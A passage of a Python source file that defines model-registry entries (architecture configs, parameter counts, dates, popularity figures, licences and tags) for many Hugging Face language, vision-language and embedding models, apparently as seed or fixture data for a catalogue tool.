                  rope_theta=800000.0),
              vision_config={"model_type": "moonvit", "hidden_size": 1152, "num_hidden_layers": 27,
                             "patch_size": 14})
S("moonshotai/Kimi-VL-A3B-Instruct", _kvl, 16407657456, "2025-04-09", "2025-06-06", 110 * K, 220, lic="mit",
  tok="kimi", custom=True, pipe="image-text-to-text", vl=True, base="moonshotai/Kimi-VL-A3B-Instruct",
  arxiv=["2504.07491"], tags=["agent", "video", "screenspot", "long-context"])
S("moonshotai/Kimi-VL-A3B-Thinking-2506", _kvl, 16407657456, "2025-06-21", "2025-07-01", 62 * K, 190, lic="mit",
  tok="kimi", custom=True, pipe="image-text-to-text", vl=True, base="moonshotai/Kimi-VL-A3B-Instruct",
  arxiv=["2504.07491"])

# ---- Hugging Face SmolLM / SmolVLM / Idefics -------------------------------------------------
SM = dict(lic="apache-2.0", tok="smollm", lang=["en"], dtype="BF16")
for gen, ctx, c, m in [("SmolLM", 2048, "2024-07-15", "2024-08-18"), ("SmolLM2", 8192, "2024-10-31", "2025-02-06")]:
    for size, L, H, nh, kv, inter, p, dl, lk in [
        ("135M", 30, 576, 9, 3, 1536, 134515008, 190 * K, 120),
        ("360M", 32, 960, 15, 5, 2560, 361821120, 160 * K, 90),
        ("1.7B", 24, 2048, 32, 32, 8192, 1711376384, 210 * K, 140),
    ]:
        theta = 10000.0 if gen == "SmolLM" else (100000.0 if size != "1.7B" else 130000.0)
        if gen == "SmolLM2":
            dl, lk = int(dl * 4.2), int(lk * 4.6)
        S(f"HuggingFaceTB/{gen}-{size}-Instruct",
          C("llama", "LlamaForCausalLM", L, H, nh, kv, inter, 49152, ctx, rope_theta=theta,
            tie_word_embeddings=True), p, c, m, dl, lk, base=f"HuggingFaceTB/{gen}-{size}",
          arxiv=["2502.02737"] if gen == "SmolLM2" else [], tags=["alignment-handbook", "trl", "sft"], **SM)
S("HuggingFaceTB/SmolLM3-3B", C("smollm3", "SmolLM3ForCausalLM", 36, 2048, 16, 4, 11008, 128256, 65536,
                                rope_theta=5000000.0, no_rope_layer_interval=4, tie_word_embeddings=True),
  3075098624, "2025-07-08", "2025-08-14", 720 * K, 740, base="HuggingFaceTB/SmolLM3-3B-Base",
  **dict(SM, tok="smollm3", lang=["en", "fr", "es", "it", "pt", "zh", "ar", "ru"]))
_smolvlm_txt = C("llama", "", 24, 2048, 32, 32, 8192, 49155, 16384, rope_theta=273768.0)
S("HuggingFaceTB/SmolVLM-Instruct", nested("idefics3", "Idefics3ForConditionalGeneration", _smolvlm_txt,
                                           vision_config={"model_type": "idefics3", "hidden_size": 1152,
                                                          "num_hidden_layers": 27, "image_size": 384},
                                           scale_factor=3),
  2246272880, "2024-11-18", "2025-04-08", 95 * K, 540, pipe="image-text-to-text", vl=True,
  base="HuggingFaceTB/SmolVLM-Base", ds=["HuggingFaceM4/the_cauldron", "HuggingFaceM4/Docmatix"], **SM)
S("HuggingFaceTB/SmolVLM-256M-Instruct",
  nested("idefics3", "Idefics3ForConditionalGeneration",
         C("llama", "", 30, 576, 9, 3, 1536, 49280, 8192, rope_theta=100000.0),
         vision_config={"model_type": "idefics3", "hidden_size": 768, "num_hidden_layers": 12, "image_size": 512},
         scale_factor=4),
  256484928, "2025-01-17", "2025-04-08", 210 * K, 260, pipe="image-text-to-text", vl=True,
  base="HuggingFaceTB/SmolLM2-135M-Instruct", ds=["HuggingFaceM4/the_cauldron", "HuggingFaceM4/Docmatix"],
  arxiv=["2504.05299"], **SM)
S("HuggingFaceTB/SmolVLM2-2.2B-Instruct",
  nested("smolvlm", "SmolVLMForConditionalGeneration",
         C("llama", "", 24, 2048, 32, 32, 8192, 49280, 8192, rope_theta=130000.0),
         vision_config={"model_type": "smolvlm_vision", "hidden_size": 1152, "num_hidden_layers": 27,
                        "image_size": 384}, scale_factor=3),
  2246784880, "2025-02-08", "2025-04-08", 110 * K, 230, pipe="image-text-to-text", vl=True,
  base="HuggingFaceTB/SmolVLM-Instruct", tags=["video-text-to-text"], arxiv=["2504.05299"], **SM)
S("HuggingFaceM4/Idefics3-8B-Llama3",
  nested("idefics3", "Idefics3ForConditionalGeneration",
         C("llama", "", 32, 4096, 32, 8, 14336, 128259, 131072, rope_theta=500000.0),
         vision_config={"model_type": "idefics3", "hidden_size": 1152, "num_hidden_layers": 27, "image_size": 364},
         scale_factor=2),
  8462136320, "2024-08-05", "2024-12-02", 26 * K, 280, pipe="image-text-to-text", vl=True,
  base="meta-llama/Llama-3.1-8B-Instruct",
  ds=["HuggingFaceM4/OBELICS", "HuggingFaceM4/the_cauldron", "HuggingFaceM4/Docmatix", "HuggingFaceM4/WebSight"],
  arxiv=["2408.12637"], tags=["multimodal", "vision", "image-text-to-text"],
  **dict(SM, tok="llama3"))

# ---- embeddings ------------------------------------------------------------------------------
MTEB = ["sentence-transformers", "feature-extraction", "sentence-similarity", "transformers", "mteb",
        "text-embeddings-inference"]
BGE_ARXIV = ["2401.03462", "2312.15503", "2311.13534", "2310.07554", "2309.07597"]
E("BAAI/bge-small-en-v1.5", bert(12, 384, 12, 1536), 33360000, "2023-09-12", "2024-02-22", 4_100 * K, 390,
  lic="mit", lang=["en"], tok="bert", tags=MTEB, onnx=True, bins=True, arxiv=BGE_ARXIV)
E("BAAI/bge-base-en-v1.5", bert(12, 768, 12, 3072), 109482240, "2023-09-11", "2024-02-21", 3_200 * K, 330,
  lic="mit", lang=["en"], tok="bert", tags=MTEB, onnx=True, bins=True, arxiv=BGE_ARXIV)
E("BAAI/bge-large-en-v1.5", bert(24, 1024, 16, 4096), 335141888, "2023-09-12", "2024-02-21", 2_100 * K, 560,
  lic="mit", lang=["en"], tok="bert", tags=MTEB, onnx=True, bins=True, arxiv=BGE_ARXIV)
E("BAAI/bge-m3", bert(24, 1024, 16, 4096, vocab=250002, ctx=8194, mt="xlm-roberta", arch="XLMRobertaModel"),
  567754752, "2024-01-27", "2024-07-03", 5_800 * K, 2_230, lic="mit", pipe="sentence-similarity", tok="xlmr",
  tags=["sentence-transformers", "feature-extraction", "sentence-similarity"], onnx=True, bins=True,
  arxiv=["2402.03216", "2004.04906", "2106.14807", "2107.05720", "2004.12832"])
E("BAAI/bge-reranker-v2-m3",
  bert(24, 1024, 16, 4096, vocab=250002, ctx=8194, mt="xlm-roberta", arch="XLMRobertaForSequenceClassification"),
  567755777, "2024-03-15", "2024-06-24", 2_400 * K, 720, lic="apache-2.0", pipe="text-classification",
  tok="xlmr", tags=["transformers", "text-embeddings-inference"], lang=["multilingual"],
  arxiv=["2312.15503", "2402.03216"], st_pool=False)
E("sentence-transformers/all-MiniLM-L6-v2", bert(6, 384, 12, 1536), 22713216, "2022-03-02", "2025-03-06",
  95_000 * K, 3_900, lic="apache-2.0", lang=["en"], pipe="sentence-similarity", tok="bert",
  tags=["feature-extraction", "sentence-similarity", "transformers"], onnx=True, bins=True, tfrust=True,
  ds=["s2orc", "flax-sentence-embeddings/stackexchange_xml", "ms_marco", "gooaq", "yahoo_answers_topics",
      "code_search_net", "search_qa", "eli5", "snli", "multi_nli", "wikihow", "natural_questions", "trivia_qa",
      "embedding-data/sentence-compression", "embedding-data/flickr30k-captions", "embedding-data/altlex",
      "embedding-data/simple-wiki", "embedding-data/QQP", "embedding-data/SPECTER", "embedding-data/PAQ_pairs",
      "embedding-data/WikiAnswers"],
  arxiv=["1904.06472", "2102.07033", "2104.08727", "1704.05179", "1810.09305"])
E("sentence-transformers/all-mpnet-base-v2",
  bert(12, 768, 12, 3072, vocab=30527, ctx=514, mt="mpnet", arch="MPNetForMaskedLM"), 109486978, "2022-03-02",
  "2025-03-06", 20_000 * K, 1_150, lic="apache-2.0", lang=["en"], pipe="sentence-similarity", tok="mpnet",
  tags=["feature-extraction", "sentence-similarity", "transformers"], onnx=True, bins=True, tfrust=True,
  ds=["s2orc", "flax-sentence-embeddings/stackexchange_xml", "ms_marco", "gooaq", "yahoo_answers_topics",
      "code_search_net", "search_qa", "eli5", "snli", "multi_nli", "wikihow", "natural_questions", "trivia_qa"],
  arxiv=["1904.06472", "2102.07033", "2104.08727", "1704.05179", "1810.09305"])
E("intfloat/e5-large-v2", bert(24, 1024, 16, 4096), 335141888, "2023-05-19", "2023-09-27", 650 * K, 260,
  lic="mit", lang=["en"], tok="bert", tags=["mteb", "Sentence Transformers", "sentence-similarity"], onnx=True,
  bins=True, arxiv=["2212.03533", "2104.08663", "2210.07316"])
E("intfloat/multilingual-e5-large",
  bert(24, 1024, 16, 4096, vocab=250002, ctx=514, mt="xlm-roberta", arch="XLMRobertaModel"), 559890432,
  "2023-06-30", "2024-03-03", 2_700 * K, 1_010, lic="mit", tok="xlmr", pipe="feature-extraction",
  lang=["multilingual", "af", "am", "ar", "de", "en", "es", "fr", "hi", "ja", "ko", "ru", "zh"],
  tags=["mteb", "Sentence Transformers", "sentence-similarity", "feature-extraction"], onnx=True, bins=True,
  arxiv=["2402.05672", "2108.08787", "2104.08663", "2210.07316"])
E("intfloat/multilingual-e5-large-instruct",
  bert(24, 1024, 16, 4096, vocab=250002, ctx=514, mt="xlm-roberta", arch="XLMRobertaModel"), 559890432,
  "2024-02-08", "2024-07-22", 1_200 * K, 520, lic="mit", tok="xlmr", pipe="feature-extraction",
  lang=["multilingual", "af", "am", "ar", "de", "en", "es", "fr", "hi", "ja", "ko", "ru", "zh"],
  tags=["mteb", "sentence-transformers", "transformers"], onnx=True, arxiv=["2402.05672", "2401.00368"])
E("intfloat/e5-mistral-7b-instruct",
  dict(mistral(vocab=32000, ctx=32768, sw=4096, theta=10000.0), architectures=["MistralModel"],
       torch_dtype="float16"),
  7110660096, "2023-12-20", "2024-03-04", 140 * K, 570, lic="mit", lang=["en"], tok="mistral", dtype="F16",
  tags=["mteb", "sentence-transformers", "transformers"], arxiv=["2401.00368", "2104.08663", "2210.07316"])
_nomic = {"model_type": "nomic_bert", "architectures": ["NomicBertModel"], "n_layer": 12, "n_embd": 768,
          "n_head": 12, "n_inner": 3072, "n_positions": 8192, "vocab_size": 30528, "rotary_emb_fraction": 1.0,
          "torch_dtype": "float32"}
E("nomic-ai/nomic-embed-text-v1.5", _nomic, 136731648, "2024-02-10", "2025-01-30", 2_100 * K, 720,
  lic="apache-2.0", lang=["en"], tok="bert", custom=True, onnx=True, bins=True,
  tags=["feature-extraction", "sentence-similarity", "mteb", "transformers", "transformers.js"],
  arxiv=["2402.01613", "2205.13147"], pipe="sentence-similarity")
E("nomic-ai/nomic-embed-text-v1", _nomic, 136731648, "2024-01-31", "2024-08-02", 1_000 * K, 560,
  lic="apache-2.0", lang=["en"], tok="bert", custom=True, onnx=True, bins=True,
  tags=["feature-extraction", "sentence-similarity", "mteb", "transformers", "transformers.js"],
  arxiv=["2402.01613"], pipe="sentence-similarity")
_gte = {"model_type": "new", "architectures": ["NewModel"], "num_hidden_layers": 24, "hidden_size": 1024,
        "num_attention_heads": 16, "intermediate_size": 4096, "vocab_size": 30528,
        "max_position_embeddings": 8192, "rope_scaling": {"type": "ntk", "factor": 2.0}, "torch_dtype": "float32"}
E("Alibaba-NLP/gte-large-en-v1.5", _gte, 434139136, "2024-04-20", "2024-08-08", 1_100 * K, 240, lic="apache-2.0",
  lang=["en"], tok="bert", custom=True, onnx=True, pipe="sentence-similarity",
  tags=["transformers", "gte", "mteb", "transformers.js", "sentence-similarity"], arxiv=["2407.19669", "2308.03281"])
E("Alibaba-NLP/gte-multilingual-base",
  dict(_gte, num_hidden_layers=12, hidden_size=768, num_attention_heads=12, intermediate_size=3072,
       vocab_size=250048), 305368320, "2024-07-20", "2024-10-09", 900 * K, 290, lic="apache-2.0", tok="xlmr",
  custom=True, onnx=True, pipe="sentence-similarity",
  lang=["af", "ar", "de", "en", "es", "fr", "hi", "it", "ja", "ko", "pt", "ru", "zh"],
  tags=["transformers", "gte", "mteb", "multilingual", "sentence-similarity", "text-embeddings-inference"],
  arxiv=["2407.19669"])
E("Alibaba-NLP/gte-Qwen2-7B-instruct",
  dict(qwen2(28, 3584, 28, 4, 18944, vocab=151646, ctx=131072), torch_dtype="float32"), 7069121024, "2024-06-15",
  "2025-01-11", 120 * K, 470, lic="apache-2.0", tok="qwen2", custom=True, dtype="F32", pipe="sentence-similarity",
  tags=["mteb", "sentence-transformers", "transformers", "Qwen2", "sentence-similarity",
        "text-embeddings-inference"], arxiv=["2308.03281"])
E("mixedbread-ai/mxbai-embed-large-v1", bert(24, 1024, 16, 4096), 335141888, "2024-03-07", "2025-03-13",
  2_300 * K, 700, lic="apache-2.0", lang=["en"], tok="bert", onnx=True, pipe="feature-extraction",
  tags=["mteb", "transformers.js", "transformers", "openvino"], arxiv=["2309.12871"])
E("jinaai/jina-embeddings-v3",
  dict(bert(24, 1024, 16, 4096, vocab=250002, ctx=8194, mt="xlm-roberta", arch="XLMRobertaModel"),
       lora_adaptations=["retrieval.query", "retrieval.passage", "separation", "classification", "text-matching"]),
  572310396, "2024-09-05", "2025-01-21", 2_900 * K, 1_010, lic="cc-by-nc-4.0", tok="xlmr", custom=True,
  onnx=True, lib="transformers", pipe="feature-extraction", dtype="BF16",
  lang=["multilingual", "af", "ar", "de", "en", "es", "fr", "hi", "it", "ja", "ko", "pt", "ru", "zh"],
  tags=["feature-extraction", "sentence-similarity", "mteb", "sentence-transformers"], arxiv=["2409.10173"])
E("Snowflake/snowflake-arctic-embed-m-v1.5", bert(12, 768, 12, 3072), 108891648, "2024-07-03", "2024-12-13",
  800 * K, 60, lic="apache-2.0", tok="bert", onnx=True, pipe="sentence-similarity",
  tags=["feature-extraction", "sentence-similarity", "mteb", "arctic", "snowflake-arctic-embed", "transformers.js"],
  arxiv=["2412.04506", "2407.18887", "2405.05374"])
E("ibm-granite/granite-embedding-278m-multilingual",
  bert(12, 768, 12, 3072, vocab=250002, ctx=514, mt="xlm-roberta", arch="XLMRobertaModel"), 278043648,
  "2024-12-04", "2025-03-04", 110 * K, 40, lic="apache-2.0", tok="xlmr", pipe="sentence-similarity",
  lang=["en", "ar", "cs", "de", "es", "fr", "it", "ja", "ko", "nl", "pt", "zh"],
  tags=["transformers", "language", "granite", "embeddings", "multilingual", "mteb"])

# ---- more vision-language --------------------------------------------------------------------
_clip = {"model_type": "clip_vision_model", "hidden_size": 1024, "num_hidden_layers": 24, "image_size": 336,
         "patch_size": 14}
S("llava-hf/llava-1.5-7b-hf",
  nested("llava", "LlavaForConditionalGeneration", C("llama", "", 32, 4096, 32, 32, 11008, 32064, 4096),
         dtype="float16", vision_config=_clip, image_token_index=32000),
  7063427072, "2023-12-05", "2025-01-27", 1_100 * K, 310, dtype="F16", lic="llama2", pipe="image-text-to-text",
  vl=True, tok="llama2", lang=["en"], ds=["liuhaotian/LLaVA-Instruct-150K"], tags=["vision", "image-text-to-text"],
  arxiv=["2304.08485", "2310.03744"])
S("llava-hf/llava-v1.6-mistral-7b-hf",
  nested("llava_next", "LlavaNextForConditionalGeneration", mistral(vocab=32064, ctx=32768), dtype="float16",
         vision_config=_clip, image_grid_pinpoints=[[336, 672], [672, 336], [672, 672], [1008, 336], [336, 1008]]),
  7566747648, "2024-02-20", "2025-01-27", 350 * K, 290, dtype="F16", lic="apache-2.0", pipe="image-text-to-text",
  vl=True, tok="mistral", lang=["en"], tags=["vision", "image-text-to-text"], arxiv=["2310.03744"])
S("llava-hf/llava-onevision-qwen2-7b-ov-hf",
  nested("llava_onevision", "LlavaOnevisionForConditionalGeneration",
         qwen2(28, 3584, 28, 4, 18944, vocab=152128, ctx=32768), dtype="float16",
         vision_config={"model_type": "siglip_vision_model", "hidden_size": 1152, "num_hidden_layers": 26,
                        "image_size": 384, "patch_size": 14}),
  8030040608, "2024-08-13", "2025-01-27", 210 * K, 60, dtype="F16", lic="apache-2.0", pipe="image-text-to-text",
  vl=True, tok="qwen2", lang=["en", "zh"], ds=["lmms-lab/LLaVA-OneVision-Data"], tags=["vision",
                                                                                      "image-text-to-text"],
  arxiv=["2408.03326"])
S("OpenGVLab/InternVL2_5-8B",
  {"model_type": "internvl_chat", "architectures": ["InternVLChatModel"],
   "llm_config": C("internlm2", "InternLM2ForCausalLM", 32, 4096, 32, 8, 14336, 92553, 32768,
                   rope_scaling={"type": "dynamic", "factor": 2.0}, rope_theta=1000000),
   "vision_config": {"model_type": "intern_vit_6b", "hidden_size": 1024, "num_hidden_layers": 24,
                     "image_size": 448}, "torch_dtype": "bfloat16"},
  8075365376, "2024-11-20", "2025-04-21", 170 * K, 90, lic="mit", pipe="image-text-to-text", vl=True,
  tok="internlm", custom=True, rel="merge",
  base=["OpenGVLab/InternViT-300M-448px-V2_5", "internlm/internlm2_5-7b-chat"], lang=["multilingual"],
  tags=["internvl", "custom_code"], arxiv=["2312.14238", "2404.16821", "2412.05271"])
S("CohereLabs/aya-vision-8b",
  nested("aya_vision", "AyaVisionForConditionalGeneration",
         C("cohere2", "", 32, 4096, 32, 8, 14336, 256000, 16384, sliding_window=4096, sliding_window_pattern=4,
           tie_word_embeddings=True),
         vision_config={"model_type": "siglip_vision_model", "hidden_size": 1152, "num_hidden_layers": 27,
                        "image_size": 364}),
  8628854784, "2025-02-28", "2025-04-17", 28 * K, 320, lic="cc-by-nc-4.0", gated="auto", pipe="image-text-to-text",
  vl=True, tok="cohere", lang=["en", "fr", "de", "es", "it", "pt", "ja", "ko", "zh", "ar", "el", "fa", "pl",
                               "id", "cs", "he", "hi", "nl", "ro", "ru", "tr", "uk", "vi"],
  base="CohereLabs/aya-expanse-8b")

# ---- Falcon ----------------------------------------------------------------------------------
FAL3 = dict(lic="other", lic_name="falcon-llm-license",
            lic_link="https://falconllm.tii.ae/falcon-terms-and-conditions.html", tok="falcon3",
            lang=["en", "fr", "es", "pt"], tags=["falcon3"])
S("tiiuae/falcon-7b-instruct",
  {"model_type": "falcon", "architectures": ["FalconForCausalLM"], "num_hidden_layers": 32, "hidden_size": 4544,
   "num_attention_heads": 71, "multi_query": True, "new_decoder_architecture": False, "parallel_attn": True,
   "alibi": False, "bias": False, "vocab_size": 65024, "torch_dtype": "bfloat16"},
  6921720704, "2023-04-25", "2024-10-12", 130 * K, 1_010, lic="apache-2.0", tok="falcon", lang=["en"],
  ds=["tiiuae/falcon-refinedweb"], bins=True, shard=10, base="tiiuae/falcon-7b",
  arxiv=["2205.14135", "1911.02150", "2005.14165", "2104.09864", "2306.01116"])
S("tiiuae/Falcon3-7B-Instruct",
  llama(28, 3072, 12, 4, 23040, vocab=131072, ctx=32768, rope=None, head_dim=256, rope_theta=1000042),
  7455550464, "2024-12-14", "2025-01-10", 60 * K, 75, base="tiiuae/Falcon3-7B-Base", **FAL3)
S("tiiuae/Falcon3-1B-Instruct",
  llama(18, 2048, 8, 4, 8192, vocab=131072, ctx=8192, rope=None, head_dim=256, rope_theta=1000042),
  1669408768, "2024-12-14", "2025-01-10", 45 * K, 40, base="tiiuae/Falcon3-1B-Base", **FAL3)
S("tiiuae/falcon-mamba-7b-instruct",
  {"model_type": "falcon_mamba", "architectures": ["FalconMambaForCausalLM"], "num_hidden_layers": 64,
   "hidden_size": 4096, "intermediate_size": 8192, "state_size": 16, "conv_kernel": 4, "expand": 2,
   "time_step_rank": 256, "vocab_size": 65024, "use_mambapy": False, "torch_dtype": "bfloat16"},
  7272665088, "2024-08-12", "2024-10-12", 8 * K, 75, lic="other", lic_name="falcon-mamba-7b-license",
  lic_link="https://falconllm.tii.ae/falcon-mamba-7b-terms-and-conditions.html", tok="falcon", lang=["en"],
  base="tiiuae/falcon-mamba-7b", tags=["falcon_mamba"], arxiv=["2410.05355"])

# ---- AllenAI OLMo ----------------------------------------------------------------------------
OLMO = dict(lic="apache-2.0", tok="olmo", lang=["en"], arxiv=["2501.00656"])
S("allenai/OLMo-2-1124-7B-Instruct",
  C("olmo2", "Olmo2ForCausalLM", 32, 4096, 32, 32, 11008, 100352, 4096, rope_theta=500000), 7298617344,
  "2024-11-26", "2025-01-06", 25 * K, 40, base="allenai/OLMo-2-1124-7B-DPO",
  ds=["allenai/RLVR-GSM-MATH-IF-Mixed-Constraints"], **OLMO)
S("allenai/OLMo-2-1124-13B-Instruct",
  C("olmo2", "Olmo2ForCausalLM", 40, 5120, 40, 40, 13824, 100352, 4096, rope_theta=500000), 13716198400,
  "2024-11-26", "2025-01-06", 9 * K, 35, base="allenai/OLMo-2-1124-13B-DPO",
  ds=["allenai/RLVR-GSM-MATH-IF-Mixed-Constraints"], **OLMO)
S("allenai/OLMo-2-0425-1B-Instruct",
  C("olmo2", "Olmo2ForCausalLM", 16, 2048, 16, 16, 8192, 100352, 4096, rope_theta=500000), 1484916736,
  "2025-04-29", "2025-05-02", 30 * K, 50, base="allenai/OLMo-2-0425-1B-RLVR1", **OLMO)
S("allenai/OLMoE-1B-7B-0924-Instruct",
  C("olmoe", "OlmoeForCausalLM", 16, 2048, 16, 16, 1024, 50304, 4096, num_experts=64, num_experts_per_tok=8),
  6919161856, "2024-08-13", "2024-09-21", 9 * K, 95, base="allenai/OLMoE-1B-7B-0924-SFT",
  **dict(OLMO, tags=["moe", "olmo", "olmoe"], arxiv=["2409.02060"]))

# ---- IBM Granite -----------------------------------------------------------------------------
GRAN = dict(lic="apache-2.0", tok="granite", tags=["language", "granite-3.1"])
S("ibm-granite/granite-3.1-8b-instruct",
  C("granite", "GraniteForCausalLM", 40, 4096, 32, 8, 12800, 49155, 131072, rope_theta=10000000.0, tie_word_embeddings=True), 8170848256,
  "2024-12-06", "2025-01-08", 110 * K, 180, base="ibm-granite/granite-3.1-8b-base", **GRAN)
S("ibm-granite/granite-3.1-2b-instruct",
  C("granite", "GraniteForCausalLM", 40, 2048, 32, 8, 8192, 49155, 131072, rope_theta=5000000.0, tie_word_embeddings=True), 2533531648,
  "2024-12-06", "2025-01-08", 70 * K, 50, base="ibm-granite/granite-3.1-2b-base", **GRAN)
S("ibm-granite/granite-3.3-8b-instruct",
  C("granite", "GraniteForCausalLM", 40, 4096, 32, 8, 12800, 49159, 131072, rope_theta=10000000.0, tie_word_embeddings=True), 8170848256,
  "2025-04-02", "2025-04-16", 95 * K, 120, base="ibm-granite/granite-3.3-8b-base",
  **dict(GRAN, tags=["language", "granite-3.3"]))
S("ibm-granite/granite-3.1-3b-a800m-instruct",
  C("granitemoe", "GraniteMoeForCausalLM", 32, 1536, 24, 8, 512, 49155, 131072, num_local_experts=40,
    num_experts_per_tok=8, rope_theta=10000000.0, tie_word_embeddings=True), 3298790400, "2024-12-06", "2025-01-08", 8 * K, 30,
  base="ibm-granite/granite-3.1-3b-a800m-base", **GRAN)

# ---- 01.AI Yi, InternLM, StarCoder2, TinyLlama ----------------------------------------------
S("01-ai/Yi-1.5-9B-Chat", llama(48, 4096, 32, 4, 11008, vocab=64000, ctx=4096, rope=None, rope_theta=5000000.0),
  8829407232, "2024-05-10", "2024-06-26", 20 * K, 140, lic="apache-2.0", tok="yi", arxiv=["2403.04652"])
S("01-ai/Yi-1.5-34B-Chat", llama(60, 7168, 56, 8, 20480, vocab=64000, ctx=4096, rope=None, rope_theta=5000000.0),
  34388917248, "2024-05-10", "2024-06-26", 9 * K, 270, lic="apache-2.0", tok="yi", arxiv=["2403.04652"])
S("01-ai/Yi-34B-Chat", llama(60, 7168, 56, 8, 20480, vocab=64000, ctx=4096, rope=None, rope_theta=5000000.0),
  34388917248, "2023-11-22", "2024-06-26", 6 * K, 350, lic="other", lic_name="yi-license",
  lic_link="LICENSE", tok="yi", shard=10, arxiv=["2403.04652", "2311.16502", "2401.11944"])
S("internlm/internlm2_5-7b-chat",
  C("internlm2", "InternLM2ForCausalLM", 32, 4096, 32, 8, 14336, 92544, 32768,
    rope_scaling={"type": "dynamic", "factor": 2.0}, rope_theta=1000000), 7737708544, "2024-06-27", "2025-03-13",
  30 * K, 190, lic="other", tok="internlm", custom=True, arxiv=["2403.17297"])
S("internlm/internlm3-8b-instruct",
  C("internlm3", "InternLM3ForCausalLM", 48, 4096, 32, 2, 10240, 128512, 32768, head_dim=128,
    rope_scaling={"type": "dynamic", "factor": 6.0}, rope_theta=50000000), 8804241408, "2025-01-13",
  "2025-02-19", 13 * K, 230, lic="apache-2.0", tok="internlm3", custom=True, arxiv=["2403.17297"])
SC2 = dict(lic="bigcode-openrail-m", tok="starcoder", tags=["code"], ds=["bigcode/the-stack-v2-train"],
           arxiv=["2305.13245", "2205.14135", "2004.05150", "2207.14255", "2402.19173"])
for size, L, H, nh, kv, inter, p, dl, lk in [("3b", 30, 3072, 24, 2, 12288, 3030371328, 140 * K, 190),
                                             ("7b", 32, 4608, 36, 4, 18432, 7173923840, 30 * K, 180),
                                             ("15b", 40, 6144, 48, 4, 24576, 15957889024, 14 * K, 620)]:
    S(f"bigcode/starcoder2-{size}",
      C("starcoder2", "Starcoder2ForCausalLM", L, H, nh, kv, inter, 49152, 16384, dtype="float32",
        sliding_window=4096, rope_theta=999999.4420358813 if size == "3b" else 1000000,
        tie_word_embeddings=True),
      p, "2024-02-20", "2024-03-04", dl, lk, dtype="F32", conv=False, **SC2)
S("bigcode/starcoder2-15b-instruct-v0.1",
  C("starcoder2", "Starcoder2ForCausalLM", 40, 6144, 48, 4, 24576, 49152, 16384, sliding_window=4096,
    rope_theta=100000, tie_word_embeddings=True), 15957889024, "2024-04-23", "2024-05-02", 3 * K, 100, base="bigcode/starcoder2-15b",
  **dict(SC2, ds=["bigcode/self-oss-instruct-sc2-exec-filter-50k"], tags=["code"], arxiv=[]))
S("TinyLlama/TinyLlama-1.1B-Chat-v1.0", C("llama", "LlamaForCausalLM", 22, 2048, 32, 4, 5632, 32000, 2048),
  1100048384, "2023-12-30", "2024-03-17", 1_600 * K, 1_400, lic="apache-2.0", tok="zephyr", lang=["en"],
  ds=["cerebras/SlimPajama-627B", "bigcode/starcoderdata", "HuggingFaceH4/ultrachat_200k",
      "HuggingFaceH4/ultrafeedback_binarized"], bins=True, shard=5)

# ---- Cohere (non-commercial) -----------------------------------------------------------------
COH_LANG = ["en", "fr", "de", "es", "it", "pt", "ja", "ko", "zh", "ar"]
S("CohereLabs/c4ai-command-r-v01",
  C("cohere", "CohereForCausalLM", 40, 8192, 64, 64, 22528, 256000, 8192, dtype="float16", rope_theta=8000000.0,
    logit_scale=0.0625, use_qk_norm=False, tie_word_embeddings=True), 34980831232, "2024-03-11", "2025-04-17", 8 * K, 1_080, dtype="F16",
  lic="cc-by-nc-4.0", gated="auto", tok="cohere", lang=COH_LANG)
S("CohereLabs/c4ai-command-r7b-12-2024",
  C("cohere2", "Cohere2ForCausalLM", 32, 4096, 32, 8, 14336, 256000, 132096, rope_theta=50000.0,
    sliding_window=4096, sliding_window_pattern=4, logit_scale=0.25, tie_word_embeddings=True), 8028033024, "2024-12-11", "2025-04-17",
  20 * K, 380, lic="cc-by-nc-4.0", gated="auto", tok="cohere", lang=COH_LANG)
S("CohereLabs/aya-expanse-8b",
  C("cohere", "CohereForCausalLM", 32, 4096, 32, 8, 14336, 256000, 8192, dtype="float16", rope_theta=10000,
    logit_scale=0.125, tie_word_embeddings=True), 8028033024, "2024-10-21", "2025-04-17", 30 * K, 400, dtype="F16", lic="cc-by-nc-4.0",
  gated="auto", tok="cohere",
  lang=["en", "fr", "de", "es", "it", "pt", "ja", "ko", "zh", "ar", "el", "fa", "pl", "id", "cs", "he", "hi",
        "nl", "ro", "ru", "tr", "uk", "vi"])


# ---- OpenAI gpt-oss (MXFP4 experts, stored packed as U8) -------------------------------------
def gptoss_params(L, experts):
    """Stored elements per dtype, tensor by tensor: expert weights as MXFP4 blocks (U8, two values a byte) and
    scales (U8, one per 32); attention with its biases and sinks, the router, the experts' biases, norms,
    embeddings and head in BF16."""
    w = L * experts * (2880 * 5760 + 2880 * 2880)
    u8 = w // 2 + w // 32
    per_layer = (2880 * 4096 + 4096) + 2 * (2880 * 512 + 512) + (4096 * 2880 + 2880) + 64
    per_layer += experts * 2880 + experts + experts * 5760 + experts * 2880 + 2 * 2880
    bf16 = 2 * 201088 * 2880 + 2880 + L * per_layer
    return {"BF16": bf16, "U8": u8}, bf16 + w


for L_, E_, c, dl, lk in [(24, 32, "2025-08-04", 6_500 * K, 3_900), (36, 128, "2025-08-04", 3_300 * K, 4_100)]:
    name = "gpt-oss-20b" if E_ == 32 else "gpt-oss-120b"
    pp, real_total = gptoss_params(L_, E_)
    S(f"openai/{name}", gptoss(L_, E_), pp, c, "2025-08-26", dl, lk, lic="apache-2.0", tok="gptoss",
      tags=["vllm"], qtag=["8-bit", "mxfp4"], gguf_total=real_total, gptoss_extra=True, arxiv=["2508.10925"])

# ---- community fine-tunes / quantised safetensors --------------------------------------------
S("NousResearch/Hermes-3-Llama-3.1-8B", llama(32, 4096, 32, 8, 14336), 8030261248, "2024-07-28", "2024-09-08",
  60 * K, 350, lic="llama3", tok="hermes3", lang=["en"], base="meta-llama/Llama-3.1-8B",
  tags=["Llama-3", "instruct", "finetune", "chatml", "gpt4", "synthetic data", "distillation", "function calling",
        "json mode", "axolotl", "roleplaying", "chat"], arxiv=["2408.11857"])
S("nvidia/Llama-3.1-Nemotron-Nano-8B-v1", llama(32, 4096, 32, 8, 14336), 8030261248, "2025-03-14", "2025-04-18",
  60 * K, 200, lic="other", lic_name="nvidia-open-model-license",
  lic_link="https://www.nvidia.com/en-us/agreements/enterprise-software/nvidia-open-model-license/", tok="llama3",
  lang=["en"], base="meta-llama/Llama-3.1-8B-Instruct", tags=["nvidia", "llama-3", "pytorch"],
  arxiv=["2505.00949"])
S("hugging-quants/Meta-Llama-3.1-8B-Instruct-AWQ-INT4",
  dict(llama(32, 4096, 32, 8, 14336), torch_dtype="float16",
       quantization_config={"bits": 4, "group_size": 128, "quant_method": "awq", "version": "gemm",
                            "zero_point": True}),
